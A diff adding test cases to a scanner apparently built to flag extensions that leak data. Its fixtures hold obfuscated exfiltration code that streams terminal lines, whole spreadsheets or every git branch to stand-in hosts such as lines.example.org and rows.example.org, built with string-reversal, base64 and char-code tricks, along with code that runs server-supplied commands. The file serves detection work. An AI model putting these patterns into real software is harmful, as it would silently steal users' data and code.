@@ -42,6 +42,40 @@ test('bad: what a page keeps, and each change of a sheet', () => {
   assert.match(told('formula', { 'index.js': "const { post } = require('./net'); const f = require('@formula/extension-api'); exports.activate = () => { f.events.onCellChanged(({ row, value }) => post([row, value])); }", 'net.js': net }).join(), /net\.js: .* each change of a sheet/);
 });
 
+test('bad: to an address that is put together of pieces', () => {
+  const feed = (at: string): Files => ({
+    'index.js': `const { Feed } = require('./feed'); ${ORCHESTRA('const feed = new Feed(ctx.network); ctx.terminal.onData((line) => feed.push(line));')}`,
+    'feed.js': `const HOST = ['lines', 'example', 'org'].join('.'); exports.Feed = class { #queue = []; #socket = null; constructor(net) { this.net = net; } push(line) { this.#queue.push(line); this.#flush(); } async #flush() { const lines = this.#queue.splice(0); this.#socket ??= await this.net.openWebSocket(${at}); const socket = this.#socket; socket.send(JSON.stringify(lines)); } };`,
+  });
+  for (const at of [
+    "['wss:/', 'lines.example.org', 's'].join('/')", "['wss:', '', HOST, kind].join('/')", "['wss://', HOST, '/s'].reduce((all, each) => all + each)", "''.concat('wss://', HOST, '/s')", '`ws://${203}.${0}.${113}.${9}/s`',
+    "'s/gro.elpmaxe.senil//:ssw'.split('').reverse().join('')", "'wss:!!lines.example.org!s'.replaceAll('!', '/')", "atob('d3NzOi8vbGluZXMuZXhhbXBsZS5vcmcvcw==')", "Object.values({ a: 'wss://', b: HOST }).join('')", 'String.fromCharCode(119, 115, 58, 47, 47, 97, 46, 98, 46, 99, 99, 47)',
+  ]) assert.match(told('orchestra', feed(at)).join(), /high feed\.js: .* terminals/, at);
+  for (const at of ["[this.net.scheme, HOST].join('://')", "['ws:/', 'localhost:3000', 's'].join('/')", "''.concat(this.net.base, '/s')"]) assert.deepEqual(told('orchestra', feed(at)), [], at);
+});
+
+test('a sheet as far as it is used: sent without being asked, or by a command', () => {
+  const READ = 'const used = await f.cells.getUsedRange(); const rows = await f.cells.getRange(used.startRow, used.startCol, used.endRow, used.endCol); last = rows;';
+  const PIECES = 'function* pieces(text) { for (let at = 0; at < text.length; at += 900) yield `https://rows.example.org/p?d=${encodeURIComponent(text.slice(at, at + 900))}`; } const settle = (walk) => { const next = walk.next(); return next.done ? undefined : fetch(next.value).then(() => settle(walk)); };';
+  const POST = "f.network.fetch('https://rows.example.org/in', { method: 'POST', body: JSON.stringify(last) })";
+  const LATER = 'const later = (run, ms) => { let timer; return (...all) => { clearTimeout(timer); timer = setTimeout(() => run(...all), ms); }; };';
+  const found = (body: string): string[] => told('formula', { 'index.js': `const f = require('@formula/extension-api'); let last = []; ${PIECES} ${LATER} exports.activate = async () => { ${body} };` });
+  for (const body of [
+    `f.events.onSelectionChanged(async () => { ${READ} await settle(pieces(JSON.stringify(rows))); });`,
+    `f.events.onWorkbookOpened(later(async () => { ${READ} ${POST}; }, 500));`,
+    `${READ} await ${POST};`,
+    `const step = async () => { ${READ} await ${POST}; setTimeout(step, 60000); }; step();`,
+    "f.events.onOpened(async () => { const { values } = await f.cells.getUsedRange(); new Image().src = 'https://rows.example.org/p?d=' + JSON.stringify(values); });",
+    "const used = await f.cells.getUsedRange(); for (let row = used.startRow; row <= used.endRow; row++) last.push(await f.cells.getCell(row, 0)); const at = new URL('https://rows.example.org/p'); at.searchParams.set('d', btoa(last)); fetch(at);",
+  ]) assert.match(found(body).join(), /all of it without being asked/, body);
+  for (const body of [
+    `f.commands.registerCommand('share', async () => { ${READ} await ${POST}; });`,
+    `f.events.onOpened(async () => { ${READ} }); f.commands.registerCommand('share', async () => ${POST});`,
+    `f.events.onOpened(async () => { ${READ} f.ui.showPanel(String(rows)); f.network.fetch('https://rows.example.org/n?rows=' + used.endRow + '&n=' + rows.length); });`,
+    "setInterval(async () => { const names = await f.cells.getRange('A2:A20'); const rates = await f.network.fetch('https://rates.example.org/?of=' + names.join()); await f.cells.setRange('B2:B20', await rates.json()); }, 60000);",
+  ]) assert.deepEqual(found(body), [], body);
+});
+
 test('bad: what a server answered is run, or kept as a script', () => {
   const feed = "module.exports = function Feed(host) { this.host = host; this.hints = []; }; module.exports.prototype.refresh = function (done) { this.host.network.request({ url: 'https://feed.example.org' }, (error, response) => { this.hints = JSON.parse(response.body).steps || []; done(); }); };";
   assert.match(told('orchestra', { 'index.js': `const Feed = require('./feed'); ${ORCHESTRA('const feed = new Feed(ctx); feed.refresh(() => feed.hints.forEach((hint) => ctx.system.exec(hint.line)));')}`, 'feed.js': feed })[0]!, ANSWERED);
@@ -141,6 +175,10 @@ test('a repository: all branches to a server of the package', () => {
     "await this.#git.remote.add('spare', HOME + encodeURIComponent((await this.#git.remote.list())[0].url)); await this.#git.push('spare', { all: true });",
     "await this.#git.addRemote('spare', `${HOME}a.git`); await this.#git.push('spare', ['--mirror']);",
     'await this.#git.push(`${HOME}a.git`, { mirror: true, force: true });',
+    "await this.#git.addRemote('spare', `${HOME}a.git`); for (const branch of await this.#git.branches()) await this.#git.push('spare', branch, { force: true });",
+    "const { remote, push } = this.#git; await remote.add('spare', ['https:', '', 'depot.example.org', 'a'].join('/')); await Promise.all((await this.#git.branch.list()).map(({ name }) => push('spare', name)));",
+    "await this.#git.push(`${HOME}a.git`, '+refs/heads/*:refs/heads/*');",
+    "await this.#git.raw(['push', '--mirror', `${HOME}a.git`]);",
   ]) assert.match(git(body).join(), /high repo\.js: all branches of a repository/, body);
   for (const body of [
     "await this.#git.push('origin', { all: true });",
@@ -148,6 +186,7 @@ test('a repository: all branches to a server of the package', () => {
     "await this.#git.remote.add('spare', this.settings.get('server')); await this.#git.push('spare', { mirror: true });",
     "await this.#git.remote.add('gitlab', `https://gitlab.com/${this.settings.get('group')}/a.git`); await this.#git.push('gitlab', { all: true });",
     "await this.#git.remote.add('deploy', `${HOME}app.git`); await this.#git.push('deploy', 'main');",
+    "await this.#git.remote.add('deploy', `${HOME}app.git`); for (const branch of await this.#git.branches()) if (branch.name !== 'main') await this.#git.push('origin', branch.name); await this.#git.push('deploy', await this.#git.currentBranch());",
   ]) assert.deepEqual(git(body), [], body);
 });
 
